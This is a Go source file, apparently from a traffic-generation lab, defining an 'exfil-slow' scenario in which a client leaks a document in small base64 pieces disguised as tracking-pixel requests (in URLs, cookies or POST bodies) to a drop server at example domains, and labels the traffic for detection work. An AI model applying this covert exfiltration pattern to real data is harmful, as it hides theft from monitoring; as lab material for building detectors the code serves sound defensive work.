// Package exfilslow is stolen data that leave in small pieces.
package exfilslow

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"

	"tyto/lab"
	"tyto/lab/auto"
	"tyto/lab/label"
	"tyto/lab/webapp"
)

// Scenario sends a document in pieces that look like what web pages report.
var Scenario = lab.Scenario{
	Name:       "exfil-slow",
	Doc:        "A document leaves in small pieces at long intervals, in requests that look like the counters and reports of web pages: in addresses, cookies or bodies. Teaches exfiltration that no volume gives away.",
	Labels:     []label.Label{label.Upload, label.Exfiltration},
	Techniques: []string{"T1030", "T1029", "T1048.002", "T1001"},
	Twin:       "telemetry-push",
	Hosts:      []string{"client", "server"},
	Variants:   webapp.Variants("go", "requests", "aiohttp", "curl"),
	Params: auto.Params(auto.Connections(),
		lab.Param{Name: "piece", Doc: "bytes in a request, about", Values: []string{"60", "250", "900", "3000"}},
		lab.Param{Name: "shape", Doc: "of a request", Values: []string{"address", "cookie", "body"}},
		lab.Param{Name: "answer", Doc: "bytes of an answer, about", Values: []string{"43", "43", "400", "3000"}},
		lab.Param{Name: "http", Doc: "highest version", Values: []string{"1", "2"}},
		lab.Param{Name: "name", Doc: "of the drop", Values: []string{"stats.pixel.example", "collect.metrics.example.net", "t.ads.example.org", "rum.cdn-sync.example"}}),
	Limit:    6 * time.Minute,
	Programs: map[string]func(context.Context, []string) error{"server": serve, "client": auto.Steps},
	Run:      run,
}

// received is where the drop puts all pieces together.
const received = "received"

func run(ctx context.Context, r *lab.Run) error {
	client, rng := r.Host("client"), r.Rand()
	kind, front, _ := strings.Cut(r.Variant(), "-")
	pauses, err := auto.Pauses(r, 4)
	if err != nil {
		return err
	}
	s, err := webapp.Start(ctx, r, r.Host("server"), webapp.Options{
		Kind: front, Name: r.Param("name"), HTTP1: r.Param("http") == "1", Program: "server", Clients: []*lab.Host{client}, Args: []string{r.Param("answer")},
	})
	if err != nil {
		return err
	}
	var steps []auto.Step
	document := ""
	for i, pause := range pauses {
		piece := lab.Random(int(float64(r.ParamInt("piece"))*(.5+rng.Float64())), rng)
		document += piece
		text := base64.RawURLEncoding.EncodeToString([]byte(piece))
		step := auto.Step{Pause: pause, Method: http.MethodGet, URL: s.URL(fmt.Sprintf("/c/%d.gif", rng.IntN(1e6)))}
		switch r.Param("shape") {
		case "address":
			step.URL += "?u=" + text
		case "cookie":
			step.Header = map[string]string{"Cookie": "_sid=" + text}
		default:
			step.Method, step.File = http.MethodPost, fmt.Sprint("piece", i)
			step.Header = map[string]string{"Content-Type": "text/plain"}
			if err := client.Write(step.File, text, 0o644); err != nil {
				return err
			}
		}
		steps = append(steps, step)
	}
	if _, err = auto.Take(ctx, r, client, kind, steps); err != nil {
		return err
	}
	if got, err := s.Host.Read(received); err != nil || string(got) != document {
		return fmt.Errorf("the document came as %d other bytes: %w", len(got), err)
	}
	requests, err := s.Stop()
	if err != nil {
		return err
	}
	webapp.Tell(r, requests, func(*webapp.Request) (label.State, string) { return label.StateUpload, "piece" }, label.Upload, label.Exfiltration)
	return nil
}

// serve is the drop; after the arguments of Serve comes the size of an answer.
func serve(ctx context.Context, args []string) error {
	var size int
	if _, err := fmt.Sscan(args[2], &size); err != nil {
		return err
	}
	var mu sync.Mutex // of document
	var document []byte
	return webapp.Serve(ctx, args, http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		text, err := io.ReadAll(q.Body)
		if cookie, none := q.Cookie("_sid"); none == nil {
			text = []byte(cookie.Value)
		} else if u := q.URL.Query().Get("u"); u != "" {
			text = []byte(u)
		}
		piece, bad := base64.RawURLEncoding.DecodeString(string(text))
		mu.Lock()
		defer mu.Unlock()
		document = append(document, piece...)
		if err = errors.Join(err, bad, os.WriteFile(received, document, 0o644)); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		w.Header().Set("Content-Type", "image/gif")
		io.WriteString(w, strings.Repeat("G", size))
	}))
}
